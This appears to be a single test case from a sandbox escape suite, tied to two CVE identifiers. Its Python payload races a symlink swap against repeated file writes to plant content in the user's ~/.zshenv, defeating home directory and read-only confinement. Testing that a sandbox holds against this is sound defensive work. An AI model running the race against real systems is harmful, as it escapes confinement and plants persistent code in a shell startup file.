"""swaps a folder against a link to the home while files are written into it"""

SHAPE = "CVE-2026-39861, CVE-2026-88968: a link where a moment ago there was a folder"
PROMISE = "P12"
WALLS = "private-home,read-only,landlock"
PYTHON = """
import os, threading
os.mkdir("out"); os.symlink("@HOME@", "away")
done = False
def swap():
    while not done:
        os.rename("out", "real"); os.rename("away", "out")
        os.rename("out", "away"); os.rename("real", "out")
thread = threading.Thread(target=swap)
thread.start()
for _ in range(3000):
    try:
        open("out/.zshenv", "w").write("evil")
    except OSError:
        pass
done = True
thread.join()
try:
    open("away/.zshenv", "w").write("evil")
except OSError:
    pass
"""


def succeeded(host, done):
    return bool(host.read("~/.zshenv"))
